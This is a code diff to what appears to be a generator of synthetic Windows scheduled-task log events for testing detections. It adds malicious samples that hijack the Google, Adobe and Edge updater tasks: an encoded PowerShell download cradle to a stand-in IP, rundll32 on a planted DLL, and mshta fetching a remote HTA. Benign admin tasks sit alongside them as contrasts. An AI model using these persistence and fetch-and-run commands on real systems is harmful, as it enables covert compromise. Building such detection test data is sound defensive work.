@@ -2233,8 +2233,81 @@ def note_ids(notes):
     return ";".join("t1053-%02d" % n for n in notes)
 
 
+def with_action(content, command, arguments=None):
+    """The task definition with one more Exec action after its others (a task runs them all, in order)."""
+    x = xml_escape
+    L = ["    <Exec>", "      <Command>%s</Command>" % x(command)]
+    if arguments:
+        L.append("      <Arguments>%s</Arguments>" % x(arguments))
+    L.append("    </Exec>")
+    return content.replace("  </Actions>", "\r\n".join(L) + "\r\n  </Actions>")
+
+
+def build_multi_action_events():
+    """Tasks with several actions (engine version 8 reads them all). Built after every other story, so that
+    the records of those keep their random draws."""
+    # SharPersist's "schtaskbackdoor" method adds an action to an existing task through the Task Scheduler COM
+    # API: the vendor's own action stays first, and Security logs a 4702 with the new definition.
+    host, u = "lap-eng-05", "jkim"
+    t = at(10, 15, 22)
+    g = "{6C2A0F7B-1D3E-4B8A-9C5D-2E7F1A0B3C4D}"
+    tn = "\\GoogleUpdateTaskMachineUA" + g
+    gup = "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe"
+    x = task_xml(t - timedelta(days=120), None, tn, [trig_daily(boundary(t, 11, 58))], gup, "/ua /installsource scheduler",
+                 user_id="S-1-5-18", logon_type="ServiceAccount", run_level="HighestAvailable")
+    enc = ps_enc("IEX (New-Object Net.WebClient).DownloadString('https://198.51.100.23/u/a.ps1')")
+    emit(task4698(host, t, duser(u), tn, with_action(x, "powershell.exe", "-nop -w hidden -enc " + enc), code=4702),
+         bad("SharPersist schtaskbackdoor appends a hidden encoded PowerShell cradle to Google's updater task"))
+    # The same technique on the Adobe updater task, loading a DLL from ProgramData with rundll32.
+    host, u = "desk-fin-02", "ejohansson"
+    t = at(12, 10, 41)
+    tn = "\\Adobe Acrobat Update Task"
+    arm = "C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe"
+    x = task_xml(t, "%s\\%s" % (NETBIOS, u), tn, [trig_logon(), trig_daily(boundary(t, 12, 0))], arm,
+                 user_id="%s\\%s" % (NETBIOS, u), logon_type="InteractiveToken")
+    emit(task4698(host, t, duser(u), tn,
+                  with_action(x, "C:\\Windows\\System32\\rundll32.exe",
+                              "C:\\ProgramData\\Adobe\\ARM\\armsvc.dll,DllRegisterServer")),
+         bad("Adobe Acrobat Update Task re-registered with a second action: rundll32 on a DLL in ProgramData"))
+    # Edge's updater task name with the genuine first action and an HTA fetched from the internet after it.
+    host, u = "lap-sales-03", "omensah"
+    t = at(15, 16, 5)
+    tn = "\\MicrosoftEdgeUpdateTaskMachineCore"
+    edge = "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe"
+    x = task_xml(t, "%s\\%s" % (NETBIOS, u), tn, [trig_logon()], edge, "/c", user_id=usid(u),
+                 logon_type="InteractiveToken")
+    emit(task4698(host, t, duser(u), tn, with_action(x, "mshta.exe", "https://203.0.113.77/edge/upd.hta")),
+         bad("Edge updater task name with the genuine updater first and mshta fetching an HTA second"))
+    # Administrators chain steps in one task: index maintenance, then copying the backups off the server.
+    admin, target = "adm_okim", "sql-02"
+    t = at(3, 11, 17)
+    tn = "\\Contoso\\SQLNightlyMaintenance"
+    x = task_xml(t, "%s\\%s" % (NETBIOS, admin), tn, [trig_daily(boundary(t, 0, 45))],
+                 "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE",
+                 "-S localhost -E -i D:\\Ops\\IndexMaintenance.sql -o D:\\Ops\\IndexMaintenance.log",
+                 user_id="%s\\svc_sqlbackup" % NETBIOS, logon_type="Password")
+    x = with_action(x, "robocopy", "D:\\SQLBackup \\\\fs-01\\sqlbackup$\\%s /MIR /R:2 /W:5" % target)
+    emit(task4698(target, t, duser(admin), tn, x, remote=True),
+         benign("%s creates a two-step SQL maintenance task (sqlcmd, then robocopy) on %s from a jump host"
+                % (admin, target), A_scheduled_task_was_created=[], Remote_Scheduled_Task_Creation_via_RPC=[],
+                WinEvent_Scheduled_Task_Created_to_Spawn_Shell=[13]))  # *cmd.exe* matches SQLCMD.EXE
+    admin, target = "adm_tpetrov", "web-iis-01"
+    t = at(4, 14, 2)
+    tn = "\\Contoso\\IISLogArchive"
+    x = task_xml(t, "%s\\%s" % (NETBIOS, admin), tn, [trig_weekly(boundary(t, 3, 30), "Saturday")], "powershell.exe",
+                 "-NoProfile -ExecutionPolicy Bypass -File D:\\Ops\\Compress-IISLogs.ps1 -OlderThanDays 7",
+                 user_id="S-1-5-18", logon_type="ServiceAccount")
+    x = with_action(x, "powershell.exe",
+                    "-NoProfile -File D:\\Ops\\Send-OpsReport.ps1 -Task IISLogArchive -To ops@" + DOMAIN)
+    emit(task4698(target, t, duser(admin), tn, x, remote=True),
+         benign("%s creates a two-action IIS log archive task (compress, then mail a report) on %s from a jump host"
+                % (admin, target), A_scheduled_task_was_created=[], Remote_Scheduled_Task_Creation_via_RPC=[],
+                WinEvent_Scheduled_Task_Created_to_Spawn_Shell=[13]))
+
+
 def main():
     build_events()
+    build_multi_action_events()
     splunk, sink = [], AlertSink()
     for ev in EVENTS:
         k = ev["kind"]
